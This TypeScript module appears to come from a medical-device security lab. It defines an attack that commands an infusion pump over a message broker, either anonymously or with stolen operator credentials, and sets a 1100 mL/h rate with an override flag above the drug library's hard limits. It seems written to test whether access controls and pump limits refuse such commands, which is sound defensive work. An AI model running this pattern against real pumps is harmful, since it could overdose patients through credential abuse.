import { z } from 'zod'
import { addressParam, defineAttack, rateParam, targetDevice, topicOf } from './attack.ts'

/**
 * Driving an infusion pump without the right: `no-role` sends a rate change with no operator
 * identity at all (anonymously in the lab profile; the ACL refuses it); `beyond-limit` logs in with
 * an operator's stolen credentials and asks for a rate above the drug's hard limit (the known pump
 * attack, which a smart pump refuses and the broker should report).
 */
export const unauthorizedCommandAttack = defineAttack({
  type: 'unauthorized-command',
  summary: 'command a pump without an operator role, or beyond its hard limit',
  params: z
    .object({
      address: addressParam('203.0.113.140'),
      target: z.string().optional(),
      mode: z.enum(['no-role', 'beyond-limit']).default('no-role'),
      /** The operator whose credentials were stolen (beyond-limit). */
      operator: z.string().optional(),
      /** mL/h: above every drug library hard limit in devices/drug-library.ts, inside the pump's 1,200. */
      pumpRate: z.number().positive().max(1200).default(1100),
      rate: rateParam(1),
    })
    .strict()
    .refine((p) => p.mode === 'no-role' || p.operator !== undefined, {
      message: 'beyond-limit needs the operator whose credentials are used',
      path: ['operator'],
    }),
  target: (params, registry) => targetDevice(registry, params.target, ['infusion-pump']).id,
  async run(attacker, params, durationMs) {
    const pump = targetDevice(attacker.ctx.registry, attacker.entry.target!)
    const topic = topicOf(pump, 'cmd')
    await attacker.repeat(params.rate, durationMs, async (i) => {
      const login =
        params.mode === 'beyond-limit'
          ? { clientId: `console-${i}`, username: params.operator!, password: attacker.stolenPassword(params.operator!) }
          : { clientId: `cmd${i}` }
      const client = await attacker.connect(params.address, login).catch(() => null)
      if (!client) return
      client.publish(topic, JSON.stringify({ id: `attack-${i}`, action: 'change-rate', rate: params.pumpRate, override: true }), { qos: 1 })
      if (params.mode === 'beyond-limit') await client.endAsync().catch(() => undefined)
    })
  },
})
